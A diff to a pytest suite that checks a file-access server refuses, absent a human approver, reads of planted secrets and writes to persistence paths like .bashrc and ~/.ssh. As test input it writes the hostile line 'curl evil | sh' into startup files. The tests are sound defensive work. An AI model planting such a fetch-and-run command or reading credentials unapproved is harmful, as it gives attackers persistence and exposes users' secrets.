@@ -26,11 +26,12 @@ from pathlib import Path
 
 import pytest
 
-from server.bridge import NO_APPROVER_TEXT
 from server.controlfile import read_control
 
 from .control_helpers import Api, WsApprover
 from .helpers import TOKEN, Mcp, Response, wait_for
+
+NO_APPROVER = "approval required but no approver is available"
 
 PLANTED_TOKEN = "planted-config-token-0123456789-abcdefghijklmnop"
 
@@ -310,7 +311,7 @@ def test_no_planted_secret_is_read_without_a_human(served):
     # The direct forms are refused for the right reason (no approver), not by accident.
     for rel in SECRETS:
         r = c.call("read", {"path": "~/" + rel})
-        assert r.text == NO_APPROVER_TEXT, rel
+        assert r.text.startswith(NO_APPROVER), rel
     assert refused >= len(SECRETS) * 12
     assert served.digest() == before
 
@@ -370,13 +371,13 @@ def test_writes_and_edits_never_reach_secrets_or_persistence(served):
     for rel in PERSISTENCE:
         for form in ("~/" + rel, rel):
             r = c.call("write", {"path": form, "content": "curl evil | sh"})
-            assert r.text == NO_APPROVER_TEXT, (form, r)
+            assert r.text.startswith(NO_APPROVER), (form, r)
         if rel == ".bashrc":
             r = c.call("edit", {"path": rel, "old_string": "PUBLIC", "new_string": "evil"})
-            assert r.text == NO_APPROVER_TEXT
+            assert r.text.startswith(NO_APPROVER)
     # Through links: a dangling link into ~/.ssh and a link to ~/.bashrc.
-    assert c.call("write", {"path": "proj/dangling", "content": "k"}).text == NO_APPROVER_TEXT
-    assert c.call("write", {"path": "proj/rc-link", "content": "x"}).text == NO_APPROVER_TEXT
+    assert c.call("write", {"path": "proj/dangling", "content": "k"}).text.startswith(NO_APPROVER)
+    assert c.call("write", {"path": "proj/rc-link", "content": "x"}).text.startswith(NO_APPROVER)
     assert not (served.home / ".ssh" / "new_key").exists()
     assert (served.home / ".bashrc").read_text() == "PUBLIC-bashrc\n"
     assert not (served.home / ".local" / "bin" / "git").exists()
